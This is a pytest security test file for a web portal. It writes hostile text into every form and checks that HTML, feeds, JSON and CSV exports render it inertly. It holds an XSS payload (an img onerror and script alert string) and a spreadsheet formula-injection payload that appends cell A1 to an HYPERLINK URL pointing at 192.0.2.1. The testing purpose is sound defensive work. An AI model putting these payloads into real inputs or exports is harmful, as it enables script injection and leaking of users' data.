"""What strangers and colleagues wrote is read back everywhere: as words, never as markup, formula or header."""

import csv
import io
import json
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from httpx2 import Response
from starlette.testclient import TestClient

from portal.app import DOORS
from portal.core.roles import Role
from tests.walk.conftest import DESK_STARTS, STARTS, House
from tests.walk.crawl import Finder, Map, Sheet, walk

MARKUP = "\"'><img src=x onerror=alert(7)><script>alert(7)</script>"
FORMULA = '=HYPERLINK("http://192.0.2.1/?x="&A1,"路灯坏了三天没有人来修")'
HARMLESS = {"username", "password", "again", "current", "code", "email", "phone"}
"""Fields that would only end the session or be refused for their shape."""
DEFUSED = ("=", "+", "-", "@", "\t", "\r")


class Reader:
    """A browser that looks at everything it is given."""

    def __init__(self, browser: TestClient) -> None:
        self.browser = browser
        self.seen: dict[str, Response] = {}

    def get(self, address: str) -> Response:
        """Fetch a page and keep it."""
        answer: Response = self.browser.get(address)
        self.seen[address] = answer
        return answer


def write_everywhere(browser: TestClient, sheets: list[Sheet]) -> int:
    """Send every form with such words, in all typed fields at once and in each alone; how many were taken."""
    taken = 0
    for sheet in sheets:
        typed = [one.name for one in sheet.fields if one.is_typed and one.name not in HARMLESS]
        if not typed or "logout" in sheet.action or "everywhere" in sheet.action:
            continue
        sent = [dict.fromkeys(typed, words) for words in (MARKUP, FORMULA)]
        sent += [{name: (MARKUP, FORMULA)[number % 2]} for number, name in enumerate(typed)]
        for fields in ({**sheet.filled(), **words} for words in sent):
            answer = browser.post(sheet.action, data=fields)
            assert answer.status_code < 500, f"{sheet.action}: {answer.status_code}"
            taken += answer.status_code < 400
    return taken


@pytest.fixture(scope="module")
def pages(house: House, whole_map: Map, public_map: Map) -> dict[str, Response]:
    """Everything that can be read after such words were written wherever something can be written."""
    everybody, (owner, case_no) = house.enter(*Role), house.owner()
    assert write_everywhere(owner, list(public_map.sheets.values())) >= 5
    assert write_everywhere(everybody, list(whole_map.sheets.values())) >= 20
    inside, outside = Reader(house.enter(*Role)), Reader(owner)
    finder = Finder(DOORS)
    walk(inside, finder, ["/desk", *DESK_STARTS, *STARTS], each=8)  # type: ignore[arg-type]
    walk(outside, finder, [*STARTS, f"/cases/{case_no}/mine", "/search?q=script", "/data"], each=8)  # type: ignore[arg-type]
    return {**inside.seen, **outside.seen}


def of_kind(pages: dict[str, Response], kind: str) -> dict[str, Response]:
    """The pages of a content type."""
    return {address: one for address, one in pages.items() if one.headers.get("content-type", "").startswith(kind)}


def test_no_page_shows_what_was_written_as_markup(pages: dict[str, Response]) -> None:
    shown = of_kind(pages, "text/html")
    assert len(shown) > 100
    assert not [address for address, one in shown.items() if "<img src=x" in one.text or "<script>alert" in one.text]
    assert [address for address, one in shown.items() if "&lt;img src=x" in one.text], "nothing was kept to be shown"


def test_every_page_carries_the_policy_that_allows_no_inline_script(pages: dict[str, Response]) -> None:
    for address, one in of_kind(pages, "text/html").items():
        policy = one.headers["content-security-policy"]
        assert "script-src 'self'" in policy, address
        assert "unsafe-inline" not in policy.replace("style-src 'unsafe-inline'", ""), address
        assert one.headers["x-content-type-options"] == "nosniff", address


def test_feeds_and_maps_stay_well_formed(pages: dict[str, Response]) -> None:
    found = {
        **of_kind(pages, "application/atom+xml"),
        **of_kind(pages, "application/xml"),
        **of_kind(pages, "text/xml"),
    }
    assert found
    for one in found.values():
        ElementTree.fromstring(one.content)


def test_tables_hold_no_formula(pages: dict[str, Response]) -> None:
    tables = of_kind(pages, "text/csv")
    assert tables
    for address, one in tables.items():
        for row in csv.reader(io.StringIO(one.content.decode("utf-8-sig"))):
            bad = [cell for cell in row if cell.startswith(DEFUSED) and not _is_number(cell)]
            assert not bad, f"{urlsplit(address).path}: {bad[0]!r}"


def test_data_for_machines_stays_well_formed(pages: dict[str, Response]) -> None:
    for one in of_kind(pages, "application/json").values():
        json.loads(one.content)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
